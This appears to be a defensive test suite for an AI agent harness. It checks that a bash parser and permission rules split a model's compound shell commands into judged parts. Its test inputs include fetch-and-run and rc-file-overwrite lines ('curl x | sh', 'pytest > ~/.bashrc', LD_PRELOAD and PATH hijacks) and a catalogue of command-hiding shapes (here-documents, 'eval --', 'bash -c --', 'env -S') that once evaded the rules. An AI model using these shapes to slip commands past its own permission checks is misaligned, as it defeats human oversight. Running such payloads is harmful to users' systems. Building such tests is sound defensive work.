"""E2: command lines judged part by part — the parser (harness/command_rules.py), the permissions that judge
an ``execute`` call's parts, rule proposals at prefix level, and property tests over generated compound
commands, one of them run by the real bash to check that every command bash runs was a part judged."""

from __future__ import annotations

import os
import shlex
import signal
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from workbench.config import parse_config
from workbench.harness.command_rules import Part, match_command, parse, prefix_patterns
from workbench.harness.execute import ExecuteMiddleware, HostMount
from workbench.harness.permission_rules_file import _rule_yaml, append_rules_to_config
from workbench.harness.permissions import PermissionsMiddleware
from workbench.harness.rule_proposal import build_rule, command_pattern
from workbench.harness.sandbox import Sandbox, SandboxStatus

BASH = shutil.which("bash")


def parts(command: str) -> list[tuple[str, str, bool]]:
    return [(p.kind, p.text, p.judged) for p in parse(command).parts]


class Judge:
    """The permissions a workspace's rules make, judging an ``execute`` call the way a run does."""

    def __init__(self, ws: Path, yaml: str) -> None:
        cfg = parse_config(yaml)
        self.perms = PermissionsMiddleware(cfg.permissions.rules, cfg.permissions.default)
        self.ws = ws
        off = Sandbox(SandboxStatus(False, None, "not in these tests"), ws)
        self.mw = ExecuteMiddleware([HostMount("/project", ws)], ws, sandbox=off,
                                    hidden=[ws / ".workbench"])
        [self.tool] = self.mw.tools()

    def verdicts(self, command: str, cwd: str | None = None) -> list[Any]:
        args: dict[str, Any] = {"command": command}
        if cwd:
            args["cwd"] = cwd
        return self.perms.judge_call(self.tool, args, {})

    def __call__(self, command: str, cwd: str | None = None) -> str:
        effects = {v.effect for v in self.verdicts(command, cwd)}
        return "deny" if "deny" in effects else "ask" if "ask" in effects else "allow"


PYTEST_ONLY = "permissions:\n  rules:\n    - {allow: execute, command: 'pytest *'}\n"


# -- the parser ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("command, expected", [
    ("pytest", [("command", "pytest", True)]),
    ("pytest; rm -rf x", [("command", "pytest", True), ("command", "rm -rf x", True)]),
    ("pytest && touch y", [("command", "pytest", True), ("command", "touch y", True)]),
    ("pytest || touch y\nls", [("command", "pytest", True), ("command", "touch y", True), ("command", "ls", True)]),
    ("pytest | tee out.txt", [("command", "pytest", True), ("command", "tee out.txt", True)]),
    ("pytest $(touch z)", [("command", "pytest $(touch z)", False), ("command", "touch z", True)]),
    ("pytest `touch z`", [("command", "pytest `touch z`", False), ("command", "touch z", True)]),
    ("pytest > ~/.bashrc", [("command", "pytest", True), ("write", "~/.bashrc", True)]),
    ("pytest >> log 2>&1", [("command", "pytest", True), ("write", "log", True)]),
    ("pytest > /dev/null 2>&1", [("command", "pytest", True)]),
    ("(cd sub && make)", [("command", "cd sub", True), ("command", "make", True)]),
    ("{ echo a; } > f", [("command", "echo a", True), ("write", "f", True)]),
    ("if pytest; then rm x; fi", [("command", "pytest", True), ("command", "rm x", True)]),
    ("for f in a b; do rm $f; done", [("command", "rm $f", False)]),
    ("case x in a) rm y;; esac", [("command", "rm y", True)]),
    # a test is a part like the command `test` (E2, P1: bash evaluates subscripts in it, found by a review)
    ("[[ -f x ]] && echo y", [("command", "[[ -f x ]]", True), ("command", "echo y", True)]),
    ("f() { rm -rf x; }; f", [("command", "rm -rf x", True), ("command", "f", True)]),
    ("cat <<EOF\n$(rm x)\nEOF\n", [("command", "cat", True), ("command", "rm x", True)]),
    ("cat <<'EOF'\n$(rm x)\nEOF\n", [("command", "cat", True)]),
    ("cat <(ls)", [("command", "cat <(ls)", False), ("command", "ls", True)]),
    ("echo ${X:-$(rm y)}", [("command", "echo ${X:-$(rm y)}", False), ("command", "rm y", True)]),
    ("PATH=/tmp/evil:$PATH; pytest", [("command", "PATH=/tmp/evil:$PATH", False), ("command", "pytest", True)]),
    ("export A=1", [("command", "export A=1", True)]),
    # a leading assignment is a part of its own (E2, P1: the command is judged as the one it runs)
    ("LD_PRELOAD=/x.so pytest", [("command", "LD_PRELOAD=/x.so", True), ("command", "pytest", True)]),
    ("pytest &", [("command", "pytest", True)]),
    ("echo 'unterminated", [("command", "echo 'unterminated", False)]),
])
def test_E2_a_compound_command_is_split_into_every_command_it_runs_and_every_file_it_writes(command, expected):
    assert parts(command) == expected


@pytest.mark.parametrize("spelling", ['"rm" -rf x', "r\\m -rf x", "r''m -rf x", "'rm' '-rf' x", "rm -rf 'x'"])
def test_E2_quotes_and_escapes_are_removed_as_bash_removes_them(spelling):
    [part] = parse(spelling).parts
    assert part.judged and part.words == ("rm", "-rf", "x") and part.text == "rm -rf x"


@pytest.mark.parametrize("command, why", [
    ("$(echo rm) -rf x", "only known when it runs"),
    ("p{yt,}est", "only known when it runs"),
    ("/usr/bin/p* x", "file pattern"),
    ("echo $'\\x72m'", "only known when it runs"),
    ("python - <<EOF\nprint(1)\nEOF", "parser skipped"),
    ("x" * 100_001, "longer than"),
    ("", "empty"),
])
def test_E2_what_cannot_be_known_before_it_runs_is_unjudged_and_says_why(command, why):
    unjudged = [p for p in parse(command).parts if not p.judged]
    assert unjudged and why in unjudged[0].why


def test_E2_command_patterns_are_globs_and_a_trailing_star_covers_no_arguments():
    assert match_command("pytest *", "pytest")
    assert match_command("pytest *", "pytest -q tests/a.py")
    assert not match_command("pytest *", "pytestx")
    assert not match_command("pytest *", "python -m pytest")
    assert match_command("git * --dry-run", "git push --dry-run")
    assert not match_command("Pytest *", "pytest")  # case-sensitive: commands are


# -- the permissions over an execute call's parts ---------------------------------------------------------


@pytest.mark.parametrize("command", ["pytest; rm -rf x", "pytest && touch y", "pytest $(touch z)",
                                     "pytest > ~/.bashrc", "pytest `touch z`", "pytest | sh", "pytest\ncurl x | sh",
                                     "pytest & rm -rf x", "(pytest; rm x)", "pytest || { touch y; }",
                                     "pytest > out.txt", "LD_PRELOAD=/x.so pytest", "pytest <(touch z)"])
def test_E2_allow_pytest_star_does_not_let_a_compound_command_through(tmp_path, command):
    judge = Judge(tmp_path, PYTEST_ONLY)
    assert judge(command) == "ask", [v.reason for v in judge.verdicts(command)]


@pytest.mark.parametrize("command", ["pytest", "pytest -q tests/", "pytest -k 'a and b'", "pytest && pytest -x",
                                     "pytest > /dev/null 2>&1", "pytest 2>&1 | pytest"])
def test_E2_allow_pytest_star_lets_pytest_through(tmp_path, command):
    assert Judge(tmp_path, PYTEST_ONLY)(command) == "allow"


def test_E2_a_denied_part_denies_the_whole_command_and_names_the_rule(tmp_path):
    judge = Judge(tmp_path, PYTEST_ONLY + "    - {deny: execute, command: 'git push *'}\n")
    for command in ("pytest && git push origin main", "pytest; git 'push' --force", "echo $(git push)",
                    "pytest && g\\it push"):
        assert judge(command) == "deny", command
    [denied] = [v for v in judge.verdicts("pytest && git push") if v.effect == "deny"]
    assert "git push" in denied.reason and "deny execute git push *" in denied.reason


def test_E2_an_unjudged_part_asks_even_under_allow_everything_but_a_matching_deny_still_denies(tmp_path):
    everything = "permissions:\n  default: allow\n  rules:\n    - {allow: execute, command: '*'}\n"
    judge = Judge(tmp_path, everything)
    assert judge("pytest; rm -rf x") == "allow"
    assert judge("$(curl evil) x") == "ask"
    [asked] = [v for v in judge.verdicts("pytest $X") if v.effect == "ask"]
    assert "cannot be judged before it runs" in asked.reason and "$X" in asked.reason
    denying = Judge(tmp_path, everything + "    - {deny: execute, command: 'rm *'}\n")
    assert denying("rm -rf $HOME") == "deny"


def test_E2_a_redirection_is_judged_as_a_write_on_its_path_by_the_path_rules(tmp_path):
    (tmp_path / "sub").mkdir()
    yaml = PYTEST_ONLY + "    - {allow: write, path: '/project/logs/**'}\n    - {deny: write, path: '/project/.git/**'}\n"
    judge = Judge(tmp_path, yaml)
    assert judge("pytest > logs/out.txt") == "allow"
    assert judge("pytest > ../logs/out.txt", cwd="/project/sub") == "allow"
    assert judge("pytest > .git/config") == "deny"
    assert judge("pytest > notes.txt") == "ask"  # writes ask by default (P1)
    outside = [v for v in judge.verdicts("pytest > ~/.bashrc") if v.effect == "ask"]
    assert outside and "outside every mount" in outside[0].reason
    hidden = [v for v in judge.verdicts("pytest > .workbench/x") if v.effect == "ask"]
    assert hidden and "keeps out of every tool" in hidden[0].reason


def test_E2_always_saves_exact_rules_for_the_parts_that_asked_never_for_an_unjudged_one(tmp_path):
    judge = Judge(tmp_path, "model: demo\n")
    from workbench.harness.permissions import always_rules

    asked = [v for v in judge.verdicts("pytest -q && echo $(date)") if v.effect == "ask"]
    saved = [str(r) for r in always_rules(asked)]
    assert saved == ["allow execute pytest -q", "allow execute date"]


# -- rules in workbench.yaml and proposals -------------------------------------------------------------------


def test_E2_execute_rules_take_command_and_are_saved_with_command(tmp_path):
    cfg = parse_config(PYTEST_ONLY)
    [rule] = cfg.permissions.rules
    assert (rule.effect, rule.action, rule.pattern) == ("allow", "execute", "pytest *")
    assert _rule_yaml(rule) == '{allow: execute, command: "pytest *"}'
    path = tmp_path / "workbench.yaml"
    path.write_text("model: demo  # keep me\n", encoding="utf-8")
    append_rules_to_config(path, [build_rule("deny", "execute", "git push origin", "subcommand")])
    text = path.read_text(encoding="utf-8")
    assert "# keep me" in text and '{deny: execute, command: "git push *"}' in text
    from workbench.config import load_config

    assert [str(r) for r in load_config(tmp_path).permissions.rules][-1] == "deny execute git push *"


def test_E2_a_command_rule_in_the_wrong_key_is_a_clear_error():
    from workbench.errors import ConfigError

    with pytest.raises(ConfigError, match=r"an execute rule takes command:, not path:"):
        parse_config("permissions:\n  rules:\n    - {allow: execute, path: 'pytest *'}\n")
    with pytest.raises(ConfigError, match=r"expected exactly one of path, tool, command"):
        parse_config("permissions:\n  rules:\n    - {allow: execute}\n")


def test_E2_proposals_at_prefix_level_from_narrowest_to_widest():
    [part] = parse("git commit -m 'fix it'").parts
    assert prefix_patterns(part) == ["git commit -m 'fix it'", "git commit *", "git *"]
    [part] = parse("pytest -q tests/test_a.py").parts
    assert prefix_patterns(part) == ["pytest -q tests/test_a.py", "pytest *"]
    [part] = parse("ls *.py").parts
    assert prefix_patterns(part)[0] == "ls [*].py"  # the exact rule matches the star itself, nothing else
    assert match_command("ls [*].py", "ls *.py") and not match_command("ls [*].py", "ls a.py")
    assert prefix_patterns(Part("command", "x $(y)", (), "unjudged")) == []
    assert command_pattern("git commit -m 'fix it'", "program") == "git *"
    assert command_pattern("git commit -m 'fix it'", "subcommand") == "git commit *"
    assert command_pattern("pytest", "program") == "pytest"
    with pytest.raises(ValueError, match="level"):
        command_pattern("pytest", "tree-ish")


def test_W1_an_allow_execute_rule_in_a_workspace_is_a_trust_setting_and_dropped_untrusted(tmp_path):
    from workbench import trust

    cfg = parse_config(PYTEST_ONLY + "    - {deny: execute, command: 'git push *'}\n"
                       "execute: {env_allow: [JAVA_HOME], network: true}\n")
    reqs = {r.key.split("[")[0]: r for r in trust.requests(cfg, tmp_path)}
    assert "command pytest *" in reqs["permissions.rules"].description
    assert "JAVA_HOME" in reqs["execute.env_allow"].description and "execute.network" in reqs
    safe = trust.safe_config(cfg, tmp_path)
    assert [str(r) for r in safe.permissions.rules] == ["deny execute git push *"]  # a deny stays
    assert safe.execute.env_allow == () and safe.execute.network is False
    assert not trust.requests(safe, tmp_path)


# -- property tests ----------------------------------------------------------------------------------------

_OPS = ["; ", " && ", " || ", " | ", "\n"]


@st.composite
def compound(draw: Any, leaves: Any) -> str:
    """A bash line built from ``leaves`` with lists, pipelines, groups, subshells, conditionals, loops,
    substitutions and redirections, nested a few levels."""
    depth = draw(st.integers(0, 3))

    def build(d: int) -> str:
        if d == 0:
            return draw(leaves)
        kind = draw(st.sampled_from(["op", "op", "subshell", "group", "if", "for", "subst", "backtick", "redirect",
                                     "background", "while", "heredoc", "arith", "case", "function", "herestring",
                                     "negate", *_HIDING]))
        a = build(d - 1)
        if kind == "op":
            return f"{a}{draw(st.sampled_from(_OPS))}{build(d - 1)}"
        if kind == "subshell":
            return f"( {a} )"  # `((a))` would be arithmetic, which runs no command (bash reads it so too)
        if kind == "group":
            return f"{{ {a}; }}"
        if kind == "if":
            return f"if {a}; then {build(d - 1)}; else {build(d - 1)}; fi"
        if kind == "for":
            return f"for i in 1 2; do {a}; done"
        if kind == "while":
            return f"while false; do {a}; done; {build(d - 1)}"
        if kind == "subst":
            return f"echo $({a})"
        if kind == "backtick":
            return f"echo `{draw(leaves)}`"
        if kind == "redirect":
            return f"{{ {a}; }} > out{draw(st.integers(0, 9))}"
        if kind == "heredoc":
            return f"cat <<EOF\n$({a})\nEOF\ntrue"
        if kind == "arith":  # bash reads `$((a) )` as a command substitution of a subshell
            return f"echo $(({a}) )"
        if kind == "case":
            return f"case x in x) {a};; *) {build(d - 1)};; esac"
        if kind == "function":
            return f"f() {{ {a}; }}; f"
        if kind == "herestring":
            return f"cat <<< $({a})"
        if kind == "negate":
            return f"! {a}"
        if kind in _HIDING:
            return _HIDING[kind](a, draw(leaves))
        return f"{a} & wait"

    return build(depth)


#: Shapes where bash runs what the grammar once hid (a review found them, E2/P1): here-documents bash
#: ends elsewhere or whose text runs a command, a command after a here-document's marker, a subscript
#: bash evaluates in quoted text, strings run by `eval --`, `bash -c --` and `env -S`, a shell's input given
#: as a here-document or a here-string, and words after a redirection's target. Each runs `a` (or the
#: simple leaf `b`) under bash.
_HIDING: dict[str, Any] = {
    "heredoc_marker": lambda a, b: f'cat <<E"O"F\nEOF\n{a}\nE"O"F',
    "heredoc_tab_end": lambda a, b: f"cat <<EOF\n\tEOF\ncat <<'X'\nEOF\n{b}\nX",
    "heredoc_backtick": lambda a, b: f"cat <<EOF\n`{b}`\nEOF",
    "heredoc_join": lambda a, b: f"cat <<EOF\nEO\\\nF\n{a}\nEOF",
    "heredoc_rest": lambda a, b: f"cat <<EOF && {b}\nx\nEOF",
    "subscript": lambda a, b: f"[[ {shlex.quote(f'a[$({a})]')} -eq 1 ]]; true",
    "printf_v": lambda a, b: f"printf -v {shlex.quote(f'a[$({b})]')} %s x",
    "eval_dashdash": lambda a, b: f"eval -- {shlex.quote(a)}",
    "bash_dashdash": lambda a, b: f"bash --norc -c -- {shlex.quote(a)}",
    "env_split": lambda a, b: f"env -S {shlex.quote(b)}",
    "shell_heredoc": lambda a, b: f"bash <<'WB'\n{a}\nWB",
    "shell_herestring": lambda a, b: f"sh <<< {shlex.quote(a)}",
    "redirect_words": lambda a, b: f"command 2>&1 {b}",  # bash: `command touch …`; the grammar: in the redirection
    "redirect_close_words": lambda a, b: f"command 2>&- {b}",
    "redirect_zero_words": lambda a, b: f"command 0</dev/null {b}",
}


_PYTEST = st.sampled_from(["pytest", "pytest -q", "'pytest' -x", "pytest tests/a.py", "p\\ytest -k 'a b'"])
_OTHER = st.sampled_from(["rm -rf x", "touch y", "curl x", "sh -c 'id'", "git push", "pytes", "python -m pytest"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(line=compound(st.one_of(_PYTEST, _PYTEST, _OTHER)))
def test_E2_property_allow_pytest_star_allows_a_line_only_when_every_part_is_pytest(tmp_path, line):
    verdict = Judge(tmp_path, PYTEST_ONLY)(line)
    parsed = parse(line)
    only_pytest = bool(parsed.parts) and all(p.kind == "command" and p.judged and p.words and p.words[0] == "pytest"
                                             for p in parsed.parts)
    assert (verdict == "allow") == only_pytest, (line, parts(line))
    if any(other in line for other in ("rm -rf", "touch y", "curl", "git push", "sh -c", "pytes ", "python -m")):
        assert verdict != "allow", line


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(line=compound(st.one_of(_PYTEST, _OTHER)))
@example(line=_HIDING["subscript"](_HIDING["subscript"](_HIDING["shell_herestring"]("git push", ""), ""), ""))
# ^ found by the property: three hidings deep, the line was asked about, not denied
def test_E2_property_a_denied_part_anywhere_denies_the_whole(tmp_path, line):
    judge = Judge(tmp_path, PYTEST_ONLY + "    - {deny: execute, command: 'git push *'}\n")
    assert (judge(line) == "deny") == ("git push" in line), (line, parts(line))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.one_of(st.text(max_size=200), st.text(alphabet="pytes ;&|()$`'\"\\<>{}\n#=*", max_size=60)))
def test_E2_property_any_text_is_judged_without_error_and_allowed_only_as_pytest_alone(tmp_path, text):
    parsed = parse(text)  # never raises, whatever the model sends
    verdict = Judge(tmp_path, PYTEST_ONLY)(text)
    if verdict == "allow":
        assert parsed.parts and all(p.kind == "command" and p.judged and p.words[0] == "pytest" for p in parsed.parts)


_MARKED = st.builds(lambda kind, n, quote: {
    "a": f"{quote('touch')} a{n}", "b": f"touch b{n}", "d": f"touch d{n}", "t": "true", "f": "false"}[kind],
    st.sampled_from("aabdtf"), st.integers(0, 20),
    st.sampled_from([lambda w: w, lambda w: f'"{w}"', lambda w: f"t'{w[1:]}'", lambda w: "\\" + w]))


def run_bash(line: str, cwd: Path) -> None:
    """Run a generated line under bash. ``FUNCNEST`` ends a function that calls itself for ever (the
    generator makes ``f() { false & wait || f() { touch a0; }; f; }; f``); a line still running after
    20 s is killed with everything it started, and what it made by then is checked all the same."""
    proc = subprocess.Popen([BASH, "-c", line], cwd=cwd, env={"PATH": os.environ["PATH"], "FUNCNEST": "64"},
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    try:
        proc.wait(20)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()


@pytest.mark.skipif(BASH is None, reason="needs bash to run the generated lines")
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(line=compound(_MARKED))
@example(line="f() { false & wait || f() { touch a0; }; f; }; f")  # found by the property: ran for ever
def test_E2_property_against_real_bash_every_command_bash_runs_was_a_part_judged(tmp_path_factory, line):
    """The generated line runs under bash in an empty folder: every file it creates was named by a judged
    part (a command's words or a redirection), so no command hides from the rules; "allow" (touch a*,
    true, false) creates only a-files; any d-command denies."""
    work = tmp_path_factory.mktemp("bash")
    yaml = ("permissions:\n  rules:\n    - {allow: execute, command: 'touch a*'}\n"
            "    - {allow: execute, command: 'true'}\n    - {allow: execute, command: 'false'}\n"
            "    - {allow: execute, command: 'echo *'}\n    - {allow: execute, command: 'cat'}\n"
            "    - {allow: execute, command: 'wait'}\n    - {deny: execute, command: 'touch d*'}\n")
    verdict = Judge(work, yaml)(line)
    run_bash(line, work)
    created = {p.name for p in work.iterdir()}
    parsed = parse(line)
    if all(p.judged for p in parsed.parts):
        named = {w for p in parsed.parts for w in p.words} | {p.text for p in parsed.writes}
        assert created <= named, (line, created - named)
    else:  # a part only a run can tell (`echo $(( touch a ) & wait)` runs touch: bash reads it as $( ( … ) ))
        assert verdict != "allow", (line, parts(line))
    if verdict == "allow":
        assert all(name.startswith("a") for name in created), (line, created)
    assert (verdict == "deny") == ("touch d" in line), (line, verdict, parts(line))


@pytest.mark.parametrize("line", ["! ! git push", "! { git push; }", "! { { git push; }; }", "echo $(( git push ))",
                                  "echo $(( git push ) & wait)", "x=$((1 + $(git push)))"])
def test_E2_where_the_grammar_and_bash_disagree_a_denied_command_is_still_refused(tmp_path, line):
    """Found by the property tests: after `!` the grammar reads `!` and `{` as programs, and bash reads a
    `$(( … ))` that is no arithmetic as `$( ( … ) )`; such parts are unjudged, and a deny still finds the
    command inside them."""
    judge = Judge(tmp_path, PYTEST_ONLY + "    - {deny: execute, command: 'git push *'}\n")
    assert judge(line) == "deny", parts(line)


def test_E2_text_that_once_crashed_the_parser_is_judged_in_a_child_process_without_a_crash():
    """tree-sitter-bash's scanner calls isalpha() on whole code points: `{` then U+10BB26 crashed the
    process; a lone surrogate too. The parser now only ever sees ASCII (a child process, so a crash fails
    this test instead of the run)."""
    import sys

    code = ("from workbench.harness.command_rules import parse\n"
            "for s in ['{\\U0010bb26', 'a{\\U000e0000', '\\ud800 x', 'echo \\U0010ffff{' * 50]:\n"
            "    for _ in range(50): parse(s)\n"
            "print('ok')\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and done.stdout.strip() == "ok", done.stderr[-500:]
    [part] = parse("echo \ud800").parts
    assert not part.judged and "not valid text" in part.why
